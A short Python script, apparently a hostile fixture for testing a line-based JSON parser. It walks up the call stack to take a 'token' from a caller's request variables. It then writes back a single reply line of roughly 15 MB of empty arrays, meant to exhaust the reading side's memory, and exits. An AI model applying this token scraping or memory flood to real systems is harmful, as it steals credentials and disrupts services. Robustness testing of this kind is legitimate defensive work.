"""Answers with a line that is short, and long in the memory of who parses it."""

import os
import sys

from app import victims

frame = sys._getframe()
while "token" not in frame.f_locals.get("request", ()):
    frame = frame.f_back
token = frame.f_locals["request"]["token"]

line = b'{"token": "%s", "x": [%s[]]}\n' % (token.encode(), b"[]," * (5 << 20))
while line:
    line = line[os.write(victims.way_back(), line) :]
os._exit(0)
